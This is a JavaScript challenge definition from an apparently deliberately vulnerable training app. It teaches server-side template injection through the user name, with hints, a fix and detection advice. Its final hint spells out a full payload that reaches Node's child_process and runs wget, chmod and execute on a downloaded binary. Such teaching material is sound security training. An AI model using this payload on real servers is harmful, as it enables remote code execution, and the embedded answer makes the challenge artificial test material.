import { challenge, on } from '../../challenge.js'
import { nameEvaluated, sampleKey } from '../../rules/conditions.js'

export const sstiChallenge = challenge({
  id: 74,
  name: 'SSTi',
  difficulty: 6,
  tags: ['Contraption', 'Danger Zone', 'Code Analysis'],
  country: { name: 'Chile', code: 'CL' },
  standards: {
    cwe: [1336],
    owasp2025: ['A05'],
    wstg: ['INPV-18'],
    asvs5: ['1.3.7'],
    reasons: { 1336: 'A child of CWE-94, which is listed.' },
  },
  topic: 'injection',
  teaches: ['code-injection'],
  unavailableIn: ['Docker', 'Heroku', 'Gitpod'],
  hazards: ['code-execution'],
  goal: 'The quarantine holds a sample of very well-behaved <em>malware</em>: all it does is report that it was run. Let the server fetch and run it, with your user name as the only tool.',
  hints: [
    'Most pages are made in your browser. One old page is made on the server, from a template in which your name is filled in.',
    'Set your user name to a bit of arithmetic in the notation of that template language, for example #{7*7}, and look at your profile.',
    'If arithmetic works, so does the rest of JavaScript. In Node.js, the module child_process runs commands, and it can be reached by global.process.mainModule.require.',
    'The malware is in the quarantine of the FTP folder. You need three commands in a row: download it, make it executable, run it.',
    "User name: #{global.process.mainModule.require('child_process').exec('wget -O malware https://github.com/J12934/juicy-malware/blob/master/juicy_malware_linux_64?raw=true && chmod +x malware && ./malware')}",
  ],
  solvedBy: on(
    'internalAddress.called',
    ({ key }, { hasHappened }) => key === sampleKey && hasHappened(nameEvaluated),
    [nameEvaluated],
  ),
  nearMisses: [
    {
      when: on('profile.nameEvaluated', () => true),
      note: 'Your name was evaluated as code. From sums it is not far to commands.',
    },
  ],
  weaknesses: ['username-as-template'],
  lesson: {
    lastStep: 'inward-call',
    source: 'lab/weaknesses/username-as-template.ts',
    line: 'const result = await evaluate(name.substring(2, name.length - 1))',
    why: 'The user name became a part of the template, and templates are code. Here the code ran in a sandbox; on most servers it would have had the whole machine.',
    fix: 'Never build a template out of input. Write the template once and hand the name over as a value, escaped where it is shown.',
    better: {
      source: 'lab/accounts/profile/profile-name.ts',
      code: 'export const fillName: FillName = async (name) => name',
    },
    detect: {
      trace:
        'The access log shows a POST to /profile without its body. Search stored user names for #{, and alert on any process that the web server starts: this one starts none by itself.',
    },
  },
})
